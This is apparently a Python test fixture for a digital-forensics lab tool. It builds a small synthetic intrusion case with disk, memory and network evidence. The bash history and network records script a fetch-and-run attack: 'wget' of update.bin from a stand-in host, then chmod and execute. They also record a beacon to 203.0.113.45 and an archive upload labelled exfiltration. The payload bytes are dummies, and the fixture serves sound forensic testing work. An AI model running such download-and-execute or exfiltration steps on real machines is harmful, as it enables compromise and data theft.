"""A small hand-written Case, so each evidence writer can be tested without the resolver.

It is deliberately tiny but covers every trait a writer must render: two
volumes (FAT32 + ext4), a deleted file, a file whose extension lies, file
slack, a process tree with a hidden process, bash history, sockets and an
injected region, DNS, an HTTP download (the same bytes as a disk file), FTP
credentials and an exfiltration flow.
"""

from __future__ import annotations

import hashlib
import io
import zipfile

from dflab.scenario.case import (
    Case,
    Disk,
    DiskFile,
    DnsQuery,
    FtpSession,
    HistoryEntry,
    Host,
    HttpTransfer,
    InjectedRegion,
    Memory,
    Network,
    OpenFile,
    Process,
    RawTransfer,
    Socket,
    TimelineEvent,
    User,
    Volume,
)

T0 = 1_772_445_600  # 2026-03-02T10:00:00Z
MiB = 1024 * 1024

PAYLOAD = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + hashlib.sha256(b"small-case payload").digest() * 40
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    b"\x90wS\xde\x00\x00\x00\x0cIDATx\x01\x01\x03\x00\xfc\xff\x00\x00\x00\x00\x03\x00\x01"
    b"\x1f\x13\x88\x1c\x00\x00\x00\x00IEND\xaeB`\x82"
)


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 3, 2, 10, 30, 0))
            z.writestr(info, data)
    return buf.getvalue()


def small_case() -> Case:
    """Return the small case; every call returns an equal object."""
    hosts = (
        Host("suspect", "fin-ws-07", "10.13.37.23", "52:54:00:12:34:56"),
        Host("gateway", "gw", "10.13.37.1", "52:54:00:00:00:01"),
        Host("resolver", "dns", "10.13.37.2", "52:54:00:00:00:02"),
        Host("c2", "cdn-update.example.net", "203.0.113.45", "52:54:00:00:00:01"),
        Host("drop", "files.example.org", "198.51.100.77", "52:54:00:00:00:01"),
    )
    user = User("jdoe", 1000, 1000, "/home/jdoe", full_name="Jane Doe")
    report = b"Q1 revenue forecast\n" * 200
    archive = _zip({"q1_forecast.txt": report})
    files = (
        DiskFile("efi-readme", "boot", "/EFI/README.TXT", b"boot volume\r\n", T0 - 86400, T0 - 86400,
                 T0 - 86400, T0 - 86400),
        DiskFile("usb-old", "boot", "/OLD.TXT", b"removed from the boot volume\r\n", T0 - 7200, T0 - 7200,
                 T0 - 7200, T0 - 7200, deleted_at=T0 - 3600),
        DiskFile("report", "root", "/home/jdoe/Documents/q1_forecast.txt", report, T0 - 5000, T0 + 1500,
                 T0 - 5000, T0 - 5000, uid=1000, gid=1000, slack=b"SLACK:acct=5531-2290"),
        DiskFile("payload", "root", "/home/jdoe/Downloads/update.bin", PAYLOAD, T0 + 600, T0 + 660,
                 T0 + 2400, T0 + 600, uid=1000, gid=1000, mode=0o755, deleted_at=T0 + 2400,
                 true_type="elf"),
        DiskFile("archive", "root", "/tmp/.cache/backup.jpg", archive, T0 + 1500, T0 + 1800, T0 + 1500,
                 T0 + 1500, uid=1000, gid=1000, true_type="zip"),
        DiskFile("picture", "root", "/home/jdoe/Pictures/notes.txt", PNG, T0 - 9000, T0 - 9000, T0 - 9000,
                 T0 - 9000, uid=1000, gid=1000, true_type="png"),
        DiskFile("history", "root", "/home/jdoe/.bash_history",
                 b"wget http://cdn-update.example.net/update.bin\nchmod +x update.bin\n", T0 + 2400,
                 T0 + 2400, T0 + 2400, T0 - 86400, uid=1000, gid=1000, mode=0o600),
    )
    disk = Disk(
        table="mbr",
        size_bytes=64 * MiB,
        disk_signature=0x1A2B3C4D,
        disk_guid="6f1c8d6e-2b7a-4c1e-9d3f-0a1b2c3d4e5f",
        volumes=(
            Volume("boot", "fat32", "EFI", 33 * MiB, 0x5EED1234, "0c1d2e3f-4a5b-4c6d-8e7f-8091a2b3c4d5",
                   "/boot/efi"),
            Volume("root", "ext4", "rootfs", 28 * MiB, 0x0BADF00D, "d2f3e4a5-b6c7-4d8e-9fa0-b1c2d3e4f5a6", "/"),
        ),
        files=files,
    )
    history = (
        HistoryEntry(T0 + 590, "cd ~/Downloads"),
        HistoryEntry(T0 + 600, "wget http://cdn-update.example.net/update.bin"),
        HistoryEntry(T0 + 650, "chmod +x update.bin && ./update.bin &"),
        HistoryEntry(T0 + 1500, "zip /tmp/.cache/backup.jpg ~/Documents/q1_forecast.txt"),
    )
    procs = (
        Process(1, 0, "systemd", ("/sbin/init", "splash"), 0, 0, T0 - 90000, "/usr/lib/systemd/systemd"),
        Process(2, 0, "kthreadd", (), 0, 0, T0 - 90000, kernel_thread=True),
        Process(812, 1, "sshd", ("sshd: /usr/sbin/sshd -D",), 0, 0, T0 - 89990, "/usr/sbin/sshd",
                sockets=(Socket("tcp", "LISTEN", "0.0.0.0", 22, fd=3),)),
        Process(1450, 1, "bash", ("-bash",), 1000, 1000, T0 + 500, "/usr/bin/bash",
                bash_history=history, environ=(("USER", "jdoe"), ("HOME", "/home/jdoe"))),
        Process(1502, 1450, "update.bin", ("./update.bin", "--beacon", "203.0.113.45:443"), 1000, 1000,
                T0 + 660, "/home/jdoe/Downloads/update.bin",
                open_files=(OpenFile(3, "/home/jdoe/Documents/q1_forecast.txt"),),
                sockets=(Socket("tcp", "ESTABLISHED", "10.13.37.23", 49822, "203.0.113.45", 443, fd=4),),
                injected=InjectedRegion(0x7F3A_1000_0000, b"\x90" * 16 + b"\x48\x31\xc0\xc3")),
        Process(1503, 1502, "kworker/u8:3", ("kworker/u8:3",), 1000, 1000, T0 + 700, "/tmp/.x", hidden=True),
    )
    memory = Memory(64 * MiB, "5.15.0-91-dflab-small", "Linux version 5.15.0-91-dflab-small (dflab@build) "
                    "(gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, GNU ld (GNU Binutils for Ubuntu) 2.38) "
                    "#101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 (small)\n", T0 - 90000, T0 + 3600,
                    "fin-ws-07", procs)
    network = Network(
        start=T0 + 550.0,
        end=T0 + 3000.0,
        capture_host="suspect",
        dns=(DnsQuery(T0 + 598.2, "suspect", "resolver", "cdn-update.example.net", "203.0.113.45", 53001,
                      0x1F2E),),
        http=(HttpTransfer(T0 + 600.0, "suspect", "c2", 49810, 80, "GET", "cdn-update.example.net",
                           "/update.bin", "Wget/1.21.2", 200, "application/octet-stream",
                           response_body=PAYLOAD),),
        ftp=(FtpSession(T0 + 1600.0, "suspect", "drop", 49900, "jdoe", "Spring2026!", "backup.jpg", archive,
                        50021, 49901),),
        raw=(RawTransfer(T0 + 1700.0, "suspect", "c2", 49822, 443, upload=archive, label="exfiltration"),),
        noise_packets=200,
        noise_seed=7,
        gateway="gateway",
    )
    timeline = (
        TimelineEvent(T0 + 600.0, "download", "http_download", "update.bin downloaded over HTTP",
                      ("disk", "network"), ("payload",)),
        TimelineEvent(T0 + 660.0, "execute", "execute", "update.bin started", ("memory",), ("pid:1502",)),
    )
    return Case("small", 1, "Small test case", "test", "00" * 32, hosts, (user,), "suspect", disk, memory,
                network, timeline)
